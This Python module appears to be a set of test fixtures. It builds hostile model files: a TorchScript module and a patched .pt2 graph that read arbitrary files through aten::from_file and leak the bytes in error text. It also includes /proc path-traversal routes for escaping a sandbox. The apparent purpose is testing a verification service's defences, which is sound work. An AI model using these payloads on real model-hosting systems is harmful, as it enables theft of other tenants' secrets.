"""Builders of models whose code reads a file: a TorchScript `forward` and a `.pt2` graph node.

Both call `aten::from_file`. The TorchScript model turns the bytes into text and raises it from the
verification run, the route that once brought another tenant's key back in a model's warnings.
"""

from __future__ import annotations

import importlib.util
import io
import json
import zipfile
from pathlib import Path

import torch

_MODULE = """
import torch


class Reader(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = torch.nn.Linear(4, 4)

    def forward(self, x):
        data = torch.from_file({path!r}, shared=False, size={size}, dtype=torch.uint8)
        text = {chars}
        if x.size(0) != 2:
            raise RuntimeError("read: " + text)
        return self.fc(x) + data.float().sum()
"""


def routes_to(target: Path) -> dict[str, str]:
    """Ways to name `target` from inside a sandbox: directly, and around it through /proc."""
    relative = str(target).lstrip("/")
    return {
        "absolute path": str(target),
        "via /proc/self/cwd": "/proc/self/cwd/" + "../" * 16 + relative,
        "via /proc/self/root": f"/proc/self/root/{relative}",
        "via /proc/1/root": f"/proc/1/root/{relative}",
    }


def torchscript_reader(path: str, size: int, folder: Path) -> bytes:
    """A scripted module whose forward reads `size` bytes of `path` and raises them as its error text.

    The characters are spelled out one by one so that TorchScript's constant folding turns the
    read into a string constant, as a hostile author would arrange.
    """
    chars = " + ".join(f"chr(int(data[{index}]))" for index in range(size))
    source = folder / f"reader_{abs(hash((path, size)))}.py"
    source.write_text(_MODULE.format(path=path, size=size, chars=chars))
    spec = importlib.util.spec_from_file_location(source.stem, source)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    buffer = io.BytesIO()
    torch.jit.save(torch.jit.script(module.Reader()), buffer)
    return buffer.getvalue()


class _Zeros(torch.nn.Module):
    def __init__(self, size: int) -> None:
        super().__init__()
        self.size = size

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x + torch.zeros(self.size, dtype=torch.uint8).float().sum()


def pt2_reader(path: str, size: int) -> bytes:
    """A `.pt2` program whose graph calls `aten::from_file(path)` (export refuses it, so it is patched in)."""
    program = torch.export.export(_Zeros(size), (torch.ones(1, 4),))
    exported = io.BytesIO()
    torch.export.save(program, exported)
    patched = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(exported.getvalue())) as source, zipfile.ZipFile(patched, "w") as target:
        for info in source.infolist():
            content = source.read(info)
            if info.filename.endswith("models/model.json"):
                content = _with_file_read(content, path, size)
            target.writestr(info, content)
    return patched.getvalue()


def _with_file_read(model_json: bytes, path: str, size: int) -> bytes:
    document = json.loads(model_json)
    for node in document["graph_module"]["graph"]["nodes"]:
        if node["target"] == "torch.ops.aten.zeros.default":
            node["target"] = "torch.ops.aten.from_file.default"
            node["inputs"] = [
                {"name": "filename", "arg": {"as_string": path}, "kind": 1},
                {"name": "shared", "arg": {"as_bool": False}, "kind": 1},
                {"name": "size", "arg": {"as_int": size}, "kind": 1},
                {"name": "dtype", "arg": {"as_scalar_type": 1}, "kind": 2},
            ]
    return json.dumps(document).encode()
